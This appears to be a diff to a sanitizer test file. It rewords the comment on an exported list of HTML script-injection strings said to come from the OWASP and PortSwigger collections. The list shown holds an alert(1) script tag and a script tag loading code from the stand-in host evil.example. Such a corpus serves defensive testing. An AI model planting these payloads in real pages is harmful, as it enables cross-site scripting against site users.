@@ -1,4 +1,4 @@
-/** Strings that have run scripts in browsers, from the OWASP and PortSwigger collections and the reports on sanitizers. */
+/** Script injections from the OWASP and PortSwigger collections and from reports on sanitizers. */
 export const IN_HTML = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
